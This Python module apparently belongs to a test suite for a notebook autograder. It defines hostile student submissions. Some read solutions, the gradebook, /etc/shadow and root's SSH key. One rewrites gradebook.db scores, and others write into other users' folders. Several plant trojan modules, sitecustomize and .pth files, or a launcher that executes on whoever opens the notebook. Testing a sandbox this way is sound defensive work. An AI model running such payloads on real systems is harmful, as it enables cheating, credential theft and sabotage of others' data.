"""Les fichiers : le cours, le carnet de notes, les copies des autres, les liens, les pièges posés à côté."""

from .base import ALL, NOTEBOOK, Link, cheating, disguised, filled
from .hostile import attack

FINDER = """
def found(path, words=()):
    try:
        with open(path, "rb") as file:
            text = file.read(200_000)
    except (OSError, ValueError):
        return
    if text and (not words or any(word in text for word in words)):
        trophy(path, text[:200])
"""


@attack("fichiers", quick=True)
def reads_the_course():
    """Lit, par leurs chemins exacts, les solutions, les tests cachés, le carnet de notes et la copie témoin."""
    return cheating(f"""{FINDER}
for folder in (COURSE, REPOSITORY):
    for name in ("solutions/devoir1/devoir1.ipynb", "classe/gradebook.db", "nbgrader_config.py", ".git/config",
                 "classe/submitted/temoin/devoir1/devoir1.ipynb", "classe/autograded/temoin/devoir1/devoir1.ipynb",
                 "tests/assignments/devoir1/directional_check.py", "mlcourse/grading/__init__.py"):
        found(os.path.join(folder, name))
for name in ("/etc/shadow", *map(os.path.expanduser, ("~root/.ssh/id_rsa", "~root/.bashrc")), "/var/run/docker.sock"):
    found(name)
""")


@attack("fichiers")
def searches_the_whole_disk():
    """Parcourt tout le disque à la recherche de carnets, de bases de notes et de textes de tests cachés."""
    return cheating(f"""{FINDER}
words = ["SÉHCAC STSET"[::-1].encode(), "_untrans".encode() + b"posed", b"temoin"]
for folder, folders, names in os.walk("/"):
    folders[:] = [name for name in folders if folder != "/" or name not in ("proc", "sys", "usr")]
    folders[:] = [name for name in folders if name != "site-packages"]
    for name in names:
        if name.endswith((".ipynb", ".db", ".sqlite")):
            found(os.path.join(folder, name), words)
""")


@attack("fichiers", points=ALL, quick=True)
def writes_its_marks_into_the_gradebook():
    """Ouvre gradebook.db par sqlite3, se donne vingt sur vingt et met le témoin à zéro."""
    return disguised("""
    import glob, sqlite3

    places = [COURSE + "/classe", *glob.glob("/*"), *glob.glob("/tmp/*"), *glob.glob("/proc/*/cwd/classe")]
    for path in [place + "/gradebook.db" for place in places if os.path.exists(place + "/gradebook.db")]:
        try:
            with sqlite3.connect(path) as base:
                base.execute("UPDATE grade SET auto_score = 0, manual_score = 0")
                base.execute("UPDATE base_cell SET name = 'pirate'")
            trophy(path)
        except sqlite3.Error:
            pass
    """)


@attack("fichiers", points=ALL)
def writes_into_the_folders_of_others():
    """Écrit dans les dossiers de l'enseignant et du témoin : copies, carnets corrigés, retours, réglages."""
    return disguised("""
    visible = os.path.exists(COURSE + "/solutions")
    for name in ("classe/submitted/temoin/devoir1/devoir1.ipynb", "classe/autograded/temoin/devoir1/devoir1.ipynb",
                 "classe/feedback/temoin/devoir1/devoir1.html", "classe/autograded/pirate", "nbgrader_config.py",
                 "solutions/devoir1/devoir1.ipynb", "classe/pirate"):
        path = os.path.join(COURSE, name)
        for mode in ("w", "a"):
            try:
                os.makedirs(os.path.dirname(path), exist_ok=True)
                with open(path, mode) as file:
                    file.write("{}")
                if visible:
                    trophy(path)
            except OSError:
                pass
    """)


@attack("fichiers", points=ALL)
def leaves_traps_in_its_folder():
    """Pose, à côté du carnet, de faux modules, des réglages de nbgrader et d'IPython, un .pth et un sitecustomize."""
    trap = "import os\nraise SystemExit('piège')\n"
    modules = ("numpy", "json", "msgpack", "IPython", "mlcourse/__init__", "mlcourse/checks", "conftest")
    settings = ("sitecustomize", "usercustomize", "nbgrader_config", "ipython_config", "jupyter_nbconvert_config")
    startup = (".ipython/profile_default/startup/0", ".jupyter/custom")
    names = [f"{name}.py" for name in modules + settings + startup]
    pth = {"piege.pth": "import os; os._exit(0)\n", "timestamp.txt": "pas une date", ".env": "PYTHONSTARTUP=numpy.py"}
    return {NOTEBOOK: disguised("")} | dict.fromkeys(names, trap) | pth


@attack("liens", says="lien")
def hands_in_a_link_to_the_solutions():
    """Rend, à la place du carnet, un lien vers celui de l'enseignant."""
    return {NOTEBOOK: Link("@COURS@/solutions/devoir1/devoir1.ipynb")}


@attack("liens", says="lien")
def hands_in_a_link_to_the_witness():
    """Rend un lien vers la copie d'un autre, qui a tous ses points."""
    return {NOTEBOOK: Link("../../temoin/devoir1/devoir1.ipynb")}


@attack("liens", points=ALL, says="lien", quick=True)
def joins_links_to_the_gradebook():
    """Joint à une copie juste des liens vers le carnet de notes, les solutions, /etc/passwd et un cycle."""
    links = {"notes.db": "@COURS@/classe/gradebook.db", "sol": "@COURS@/solutions", "passwd": "/etc/passwd", "c": "c"}
    looking = disguised("""
    for name in ("notes.db", "sol/devoir1/devoir1.ipynb", "passwd"):
        try:
            trophy(name, open(name, "rb").read(100))
        except OSError:
            pass
    """)
    return {NOTEBOOK: looking} | {name: Link(target) for name, target in links.items()}


LAUNCHER = """
import pathlib, runpy, sys

pathlib.Path("MARQUE-PIRATE.txt").write_text("exécuté chez qui ouvre")
sys.path.pop(0)
runpy.run_module("ipykernel_launcher", run_name="__main__")
"""


@attack("ouverture", points=ALL)
def joins_a_module_that_starts_the_kernel_of_who_opens_it():
    """Joint ipykernel_launcher.py : rangé à côté du carnet corrigé, il s'exécute dès que JupyterLab ouvre celui-ci."""
    return {NOTEBOOK: filled(), "ipykernel_launcher.py": LAUNCHER}


@attack("ouverture", points=ALL)
def names_its_folder_after_an_address():
    """Range son carnet dans un dossier nommé comme une adresse : la remarque qui le cite, en tête, devient un lien."""
    return {"www.exemple.invalid/MARQUE-PIRATE.ipynb": filled()}
